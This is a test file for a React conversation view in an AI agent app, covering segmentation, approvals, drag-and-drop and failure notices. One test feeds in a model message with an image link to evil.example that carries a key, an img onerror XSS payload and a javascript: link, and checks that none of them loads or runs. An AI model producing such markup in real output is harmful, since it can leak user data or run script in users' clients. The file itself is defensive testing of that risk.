import { type Message, Message as MessageShape } from '@contract/conversation';
import { CallId, TurnId } from '@contract/ids';
import { LONG_PASTE } from '@contract/limits';
import { fail } from '@contract/result';
import { cleanup, createEvent, fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { onIntent, start, usePort } from '../../link';
import { type FakeHost, fakeHost } from '../../testing/fake-host';
import { giveElementsSize } from '../../testing/layout';
import { sampleApp, sampleThread } from '../../testing/samples';
import { Conversation } from './conversation';
import { createSegmenter, placeOf, segmentsOf } from './segments';

giveElementsSize();

const Gate = ({ thread = sampleThread() }) =>
  usePort().phase === 'ready' ? (
    <Conversation
      thread={thread}
      renderApproval={(approval, onLeft) => (
        <p key={approval.id} tabIndex={-1} data-approval={approval.id} onDoubleClick={onLeft}>
          {`asks ${approval.tool}`}
        </p>
      )}
      renderDeck={([first, ...others], onLeft) => (
        <p key={first?.id} tabIndex={-1} data-approval={first?.id} onDoubleClick={onLeft}>
          {`deck asks ${first?.tool} and ${others.length} more`}
        </p>
      )}
      onShowWaiting={() => undefined}
      empty={({ use }) => (
        <button type="button" onClick={() => use('list files')}>
          suggestion
        </button>
      )}
      stopKeys="Ctrl+."
    />
  ) : null;

/** A long thread with user messages, answers, read-only calls and a sub-agent. */
const long = (count: number): Message[] =>
  Array.from({ length: count }, (_, at) => {
    if (at % 9 === 0) return { role: 'user', id: `m${at}`, at, text: `Say ${at}` };
    return {
      role: 'agent',
      id: `m${at}`,
      at,
      text: at % 4 === 0 ? `Answer ${at}` : '',
      reasoning: '',
      phase: 'done',
      calls: [{ callId: `c${at}`, name: at % 3 === 0 ? 'task' : 'read_file', args: {}, status: 'done' }],
      ...(at % 9 === 7 ? { parentCallId: `c${at - 1}` } : {}),
    };
  }).map((message) => MessageShape.parse(message));

describe('the segments of a growing thread', () => {
  const plain = ({ segments, nested, steps }: ReturnType<typeof segmentsOf>) => ({
    segments,
    calls: Array.from({ length: 600 }, (_, at) => CallId.parse(`c${at}`)).map((id) => [
      nested.get(id)?.map((one) => one.id),
      steps.get(id)?.id,
    ]),
  });

  it('equal those of the whole thread, whatever arrived in between', () => {
    const all = long(600);
    const grow = createSegmenter();
    for (const count of [10, 130, 131, 200, 500, 600, 420]) {
      const now = all.slice(0, count);
      expect(plain(grow(now))).toEqual(plain(segmentsOf(now)));
      const changed = now.with(count - 3, MessageShape.parse({ role: 'user', id: 'x', at: 1, text: 'x' }));
      expect(plain(grow(changed))).toEqual(plain(segmentsOf(changed)));
      const page = all.slice(Math.floor(count / 2), count);
      expect(plain(grow(page))).toEqual(plain(segmentsOf(page)));
    }
  });

  it('stay unchanged before the latest messages', () => {
    const all = long(600);
    const grow = createSegmenter();
    const before = grow(all);
    const last = all.at(-1);
    if (last?.role !== 'agent') throw new Error('The last is no answer.');
    const after = grow(all.with(599, { ...last, text: 'more' }));
    expect(after.segments[50]).toBe(before.segments[50]);
  });

  it('contain a limited number of calls each, and tell where a message is', () => {
    const calls = Array.from({ length: 60 }, (_, at) => ({
      callId: `c${at}`,
      name: 'execute',
      display: 'command',
      args: {},
      status: 'done',
    }));
    const messages = calls.map((call, at) =>
      MessageShape.parse({
        role: 'agent',
        id: `m${at}`,
        at,
        text: '',
        reasoning: '',
        phase: 'done',
        calls: [call],
      }),
    );
    const { segments } = segmentsOf(messages);
    expect(segments.map((one) => one.kind === 'calls' && [one.lines.length, one.joined])).toEqual([
      [24, undefined],
      [24, true],
      [12, true],
    ]);
    expect(['m0', 'm24', 'm59', 'none'].map((id) => placeOf(segments, messages, id))).toEqual([0, 1, 2, -1]);
  });
});

describe('a rendered thread', () => {
  let host: FakeHost;
  let stop: () => void;
  beforeEach(() => {
    host = fakeHost(sampleApp());
    stop = start(host.port);
  });
  afterEach(() => {
    cleanup();
    stop();
    localStorage.clear();
  });

  it('moves the focus from a decision to the next one, and from the last one to the composer', async () => {
    const { approvals } = sampleThread();
    const view = render(<Gate />);
    const message = screen.getByRole('textbox', { name: 'Message to the agent' });
    const decide = (left: typeof approvals) => {
      fireEvent.doubleClick(screen.getByText(/asks /));
      view.rerender(<Gate thread={sampleThread({ approvals: left })} />);
    };
    decide(approvals.slice(1));
    expect(document.activeElement?.textContent).toBe('deck asks execute and 0 more');
    decide([]);
    expect(document.activeElement).toBe(message);
    // After a decision elsewhere, the focus stays where it is.
    view.rerender(<Gate />);
    view.rerender(<Gate thread={sampleThread({ approvals: approvals.slice(1) })} />);
    expect(document.activeElement).toBe(message);
  });

  it('folds read-only calls, and shows sub-agents under their call', () => {
    const { segments, nested } = segmentsOf(sampleThread().messages, undefined, 0, true);
    expect(segments.map((one) => one.kind)).toEqual(['user', 'prose', 'calls', 'prose', 'calls']);
    const [, , calls] = segments;
    expect(
      calls?.kind === 'calls' &&
        calls.lines.map((line) => (line.kind === 'fold' ? line.calls.length : line.call.name)),
    ).toEqual([4, 'write_todos', 'write_file', 'execute', 'task', 'delete']);
    expect(
      nested.get(CallId.parse('ct'))?.map((one) => (one.role === 'agent' ? one.text : one.role)),
    ).toEqual(['No other file does.']);
  });

  it('offers the actions of the last failure only once, and shows earlier ones quietly', async () => {
    const error = {
      kind: 'network',
      code: 'external',
      values: { text: 'No answer.' },
      message: 'No answer.',
    };
    const turn = (at: number) => [
      { role: 'user', id: `u${at}`, at, text: 'Go' },
      { role: 'agent', id: `a${at}`, at, text: 'Well', reasoning: '', calls: [], phase: 'done' },
      { role: 'notice', id: `n${at}`, at, error, actions: ['retry'] },
    ];
    const messages = [...turn(1), ...turn(2)].map((message) => MessageShape.parse(message));
    const failed = {
      phase: 'failed',
      turnId: 't',
      error: messages.flatMap((m) => (m.role === 'notice' ? [m.error] : []))[0],
    };
    render(<Gate thread={sampleThread({ messages, approvals: [], turn: failed })} />);
    await waitFor(() => expect(screen.getAllByText('No answer.')).toHaveLength(2));
    expect(screen.getAllByRole('alert')).toHaveLength(1);
    expect(screen.getAllByRole('button', { name: 'Try again' })).toHaveLength(1);
  });

  it('describes each call with its state, and shows its terminal', async () => {
    const intents: unknown[] = [];
    const undo = onIntent((intent) => intents.push(intent));
    render(<Gate />);
    const line = await screen.findByRole('button', { name: /Ran npm test/ });
    expect(line.textContent).toBe('Rannpm testexit 12.1 s');
    fireEvent.click(screen.getByRole('button', { name: 'Show in terminal' }));
    undo();
    expect(intents).toEqual([{ type: 'showTerminal', terminalId: 'x1' }]);
  });

  it('shows a single question at its call, and several in a deck that stays until the last one', async () => {
    const { approvals } = sampleThread();
    const one = sampleThread({ approvals: approvals.slice(0, 1) });
    const view = render(<Gate thread={one} />);
    const log = await screen.findByRole('log');
    expect(within(log).getByText('asks edit_file')).toBeTruthy();
    view.rerender(<Gate />);
    expect(screen.getByText('deck asks edit_file and 1 more')).toBeTruthy();
    expect(within(log).queryByText(/asks/)).toBeNull();
    view.rerender(<Gate thread={one} />);
    expect(screen.getByText('deck asks edit_file and 0 more')).toBeTruthy();
    view.rerender(<Gate thread={sampleThread({ approvals: [] })} />);
    view.rerender(<Gate thread={one} />);
    expect(within(log).getByText('asks edit_file')).toBeTruthy();
  });

  it('keeps a question visible when its call is far above, or inside a sub-agent', {
    timeout: 30_000,
  }, async () => {
    const thread = sampleThread();
    const later = Array.from({ length: 300 }, (_, step) => ({
      role: 'agent',
      id: `later${step}`,
      at: 1,
      text: `Step ${step}`,
      reasoning: '',
      phase: 'done',
      calls: [],
    }));
    const inside = {
      role: 'agent',
      id: 'm5',
      at: 1,
      text: '',
      reasoning: '',
      phase: 'done',
      parentCallId: 'ct',
    };
    const [, second] = thread.approvals;
    const view = render(
      <Gate thread={sampleThread({ messages: [...thread.messages, ...later], approvals: [second] })} />,
    );
    expect(await screen.findAllByText(/^asks/)).toHaveLength(1);
    view.rerender(
      <Gate
        thread={sampleThread({
          messages: [
            ...thread.messages.filter((message) => message.id !== 'm4'),
            {
              ...inside,
              calls: [{ callId: 'c9', name: 'execute', display: 'command', args: {}, status: 'waiting' }],
            },
          ],
          approvals: [second],
        })}
      />,
    );
    expect(screen.getAllByText(/^asks/).map((one) => one.textContent)).toEqual(['asks execute']);
    fireEvent.click(screen.getByRole('button', { name: /Delegated/ }));
    expect(screen.getAllByText(/^asks/)).toHaveLength(1);
  });

  it('loads no images and runs no markup from a model', async () => {
    const message = {
      role: 'agent',
      id: 'm9',
      at: 1,
      text: 'see ![secret](https://evil.example/x.png?key=1)\n\n<img src=x onerror=alert(1)>\n\n[go](javascript:alert(1))',
      reasoning: '',
      phase: 'done',
      calls: [],
    };
    const { container } = render(<Gate thread={sampleThread({ messages: [message], approvals: [] })} />);
    const link = await screen.findByRole('link', { name: 'secret' });
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('[href^="javascript"]')).toBeNull();
    fireEvent.click(link);
    await waitFor(() =>
      expect(host.calls.at(-1)).toEqual({
        command: 'link.open',
        input: { url: 'https://evil.example/x.png?key=1' },
      }),
    );
  });

  it('offers to undo a memory that the agent wrote', async () => {
    render(<Gate />);
    fireEvent.click(await screen.findByRole('button', { name: /Undo the change to/ }));
    await waitFor(() =>
      expect(host.calls.at(-1)).toEqual({
        command: 'memories.undo',
        input: { threadId: 't1', callId: 'c6' },
      }),
    );
  });

  it('accepts files dropped anywhere on it, and ignores folders', async () => {
    host.answers['attachments.add'] = ({ name, origin }) =>
      fail('storage', 'external', { text: `${origin} ${name} came.` });
    const { container } = render(<Gate />);
    const message = (await screen.findAllByRole('article'))[0] ?? container;
    const data = (files: File[], isDirectory = false) => ({
      types: ['Files'],
      items: files.map(() => ({ webkitGetAsEntry: () => ({ isDirectory }) })),
      files,
    });
    const target = () => screen.queryByText('Drop files to attach them');
    const leave = (to: Element | null) => {
      const event = createEvent.dragLeave(message);
      Object.defineProperty(event, 'relatedTarget', { value: to });
      fireEvent(message, event);
    };
    const over = (dataTransfer: object) => fireEvent.dragOver(message, { dataTransfer });
    // The drop is handled, so the window does not offer itself as a target.
    expect(over(data([]))).toBe(false);
    expect(target()).not.toBeNull();
    leave(message.parentElement);
    expect(target()).not.toBeNull();
    leave(document.body);
    expect(target()).toBeNull();

    over(data([]));
    expect(fireEvent.drop(message, { dataTransfer: data([new File([], 'folder')], true) })).toBe(true);
    expect(target()).toBeNull();
    expect(fireEvent.drop(message, { dataTransfer: data([new File(['a'], 'a.txt')]) })).toBe(false);
    expect((await screen.findByText('file a.txt came.')).textContent).not.toBe('');
    expect(document.activeElement).toBe(screen.getByRole('textbox', { name: 'Message to the agent' }));
    fireEvent.drop(message, { dataTransfer: data([new File([], 'folder')], true) });
    expect(screen.queryByText('file a.txt came.')).toBeNull();
  });

  describe('text that is dropped', () => {
    const data = (text: string, types = ['text/plain', 'text/html']) => ({
      dataTransfer: { types, getData: (type: string) => (type === types[0] ? text : '') },
    });
    const target = () => screen.queryByText('Drop the text to add it to the message');
    const field = () => screen.getByRole<HTMLTextAreaElement>('textbox', { name: 'Message to the agent' });
    const added = () => host.calls.filter(({ command }) => command === 'attachments.add');

    it('beside the field is added to the message, and a link as its address', async () => {
      render(<Gate />);
      const message = (await screen.findAllByRole('article'))[0] as HTMLElement;
      expect(fireEvent.dragOver(message, data(''))).toBe(false);
      expect(target()).not.toBeNull();
      expect(fireEvent.drop(message, data('some words'))).toBe(false);
      expect(target()).toBeNull();
      await waitFor(() => expect(field().value).toBe('some words '));
      expect(document.activeElement).toBe(field());
      fireEvent.drop(message, data('https://example.com/', ['text/uri-list']));
      await waitFor(() => expect(field().value).toBe('some words https://example.com/ '));
    });

    it('on a field is left to that, unless it is a long one for the message', async () => {
      render(<Gate />);
      await screen.findAllByRole('article');
      expect(fireEvent.dragOver(field(), data(''))).toBe(true);
      expect(target()).toBeNull();
      expect(fireEvent.drop(field(), data('x'.repeat(LONG_PASTE)))).toBe(true);
      expect(added()).toEqual([]);
      expect(fireEvent.drop(field(), data('x'.repeat(LONG_PASTE + 1)))).toBe(false);
      await waitFor(() => expect(added()).toHaveLength(1));
    });

    it('is ignored if it was dragged from the conversation itself', async () => {
      render(<Gate />);
      const message = (await screen.findAllByRole('article'))[0] as HTMLElement;
      const ours: string[] = [];
      const start = { dataTransfer: { setData: (type: string) => ours.push(type) } };
      const own = (text: string) => data(text, ['text/plain', ...ours]);
      fireEvent.dragStart(message, start);
      expect(fireEvent.dragOver(message, own(''))).toBe(true);
      expect(fireEvent.drop(message, own('some words'))).toBe(true);
      // Its end is not told if it was removed meanwhile.
      expect(fireEvent.dragOver(message, data(''))).toBe(false);
      fireEvent.dragEnd(message);
      // Text within the field is moved by the field.
      fireEvent.dragStart(field(), start);
      expect(fireEvent.drop(field(), own('x'.repeat(LONG_PASTE + 1)))).toBe(true);
      fireEvent.dragEnd(field());
      expect(field().value).toBe('');
      expect(added()).toEqual([]);
    });
  });

  it('attaches the files that are dropped together with a folder, which the window opens', async () => {
    const { container } = render(<Gate />);
    const message = (await screen.findAllByRole('article'))[0] ?? container;
    const files = [new File([], 'folder'), new File(['a'], 'a.txt')];
    const items = files.map(({ name }) => ({ webkitGetAsEntry: () => ({ isDirectory: name === 'folder' }) }));
    expect(fireEvent.drop(message, { dataTransfer: { types: ['Files'], items, files } })).toBe(true);
    const added = () => host.calls.filter(({ command }) => command === 'attachments.add');
    await waitFor(() => expect(added().map(({ input }) => input)).toMatchObject([{ name: 'a.txt' }]));
  });

  it('offers the requests in an answer of the offline assistant, and only whole rows', async () => {
    const text =
      'I ran `list all`. Did you mean:\n\n- `list files`\n- or `demo`\n\n| Say | |\n| - | - |\n| `read a` | x |';
    const message = MessageShape.parse({
      role: 'agent',
      id: 'm1',
      at: 1,
      text,
      reasoning: '',
      phase: 'done',
      calls: [],
    });
    const said = { messages: [message], approvals: [], queue: [], turn: { phase: 'idle' } as const };
    const thread = sampleThread(said);
    const { rerender } = render(
      <Gate thread={{ ...thread, thread: { ...thread.thread, model: 'offline:guide' } }} />,
    );
    fireEvent.click(await screen.findByRole('button', { name: 'list files' }));
    expect(screen.getByRole<HTMLTextAreaElement>('textbox').value).toBe('list files');
    expect(screen.getByRole('button', { name: 'read a' })).toBeTruthy();
    for (const name of ['list all', 'demo']) expect(screen.queryByRole('button', { name })).toBeNull();
    rerender(<Gate thread={{ ...thread, thread: { ...thread.thread, model: 'anthropic:claude' } }} />);
    await waitFor(() => expect(screen.queryByRole('button', { name: 'list files' })).toBeNull());
  });

  it('says that it waits for you while a running call asks', async () => {
    const turn = { phase: 'running', turnId: TurnId.parse('turn'), startedAt: 1 } as const;
    const { rerender } = render(<Gate thread={sampleThread({ turn })} />);
    const field = () => screen.findByRole<HTMLTextAreaElement>('textbox', { name: 'Message to the agent' });
    expect((await field()).placeholder).toContain('waiting for your decision');
    rerender(<Gate thread={sampleThread({ turn, approvals: [] })} />);
    expect((await field()).placeholder).toContain('The agent is working');
  });

  it('puts a suggestion into the composer without sending it', async () => {
    render(
      <Gate thread={sampleThread({ messages: [], approvals: [], queue: [], turn: { phase: 'idle' } })} />,
    );
    fireEvent.click(await screen.findByRole('button', { name: 'suggestion' }));
    expect(screen.getByRole<HTMLTextAreaElement>('textbox').value).toBe('list files');
    expect(host.calls.map((one) => one.command)).toEqual(['app.open']);
  });
});
